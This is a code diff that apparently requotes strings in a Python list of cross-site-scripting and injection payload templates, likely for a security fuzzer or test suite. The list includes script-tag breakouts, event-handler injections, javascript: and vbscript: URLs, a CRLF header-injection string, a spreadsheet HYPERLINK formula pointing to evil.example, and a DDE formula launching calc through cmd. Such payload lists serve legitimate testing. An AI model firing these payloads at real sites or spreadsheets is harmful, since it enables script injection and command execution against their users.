@@ -59,12 +59,12 @@ ELEMENTS = (
     "<a href='data:text/html,<script>{0}</script>'>x</a>",
 )
 BREAKERS = (
-    "\"><script>{0}</script>",
+    '"><script>{0}</script>',
     "'><script>{0}</script>",
-    "\" autofocus onfocus=\"{0}",
+    '" autofocus onfocus="{0}',
     "' onmouseover='{0}",
     "x onerror={0} src=x",
-    "\"></title><script>{0}</script>",
+    '"></title><script>{0}</script>',
     "</textarea><script>{0}</script>",
     "</style><script>{0}</script>",
     "</option></select><script>{0}</script>",
@@ -75,8 +75,8 @@ BREAKERS = (
     "'/><img src=x onerror={0}>",
     "`-{0}-`",
     "';{0};//",
-    "\";{0};//",
-    "\\\";{0};//",
+    '";{0};//',
+    '\\";{0};//',
     "</p></div></main><script>{0}</script>",
     "&lt;script&gt;{0}&lt;/script&gt;",
     "&#60;img src=x onerror={0}&#62;",
@@ -108,7 +108,7 @@ ADDRESSES = (
     "\x01javascript:{0}",
     "data:text/html,<script>{0}</script>",
     "vbscript:msgbox(1)",
-    "http://evil.example/\" onmouseover=\"{0}",
+    'http://evil.example/" onmouseover="{0}',
 )
 SIGNS = (
     "\u2028<script>{0}</script>\u2029",
@@ -119,7 +119,7 @@ SIGNS = (
     "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>{0}</script>",
     "<script>{0}</script>" + "\u0301" * 30,
     "+ADw-script+AD4-{0}+ADw-/script+AD4-",
-    "=HYPERLINK(\"http://evil.example\",\"{0}\")",
+    '=HYPERLINK("http://evil.example","{0}")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
 )
 PAYLOADS = tuple(
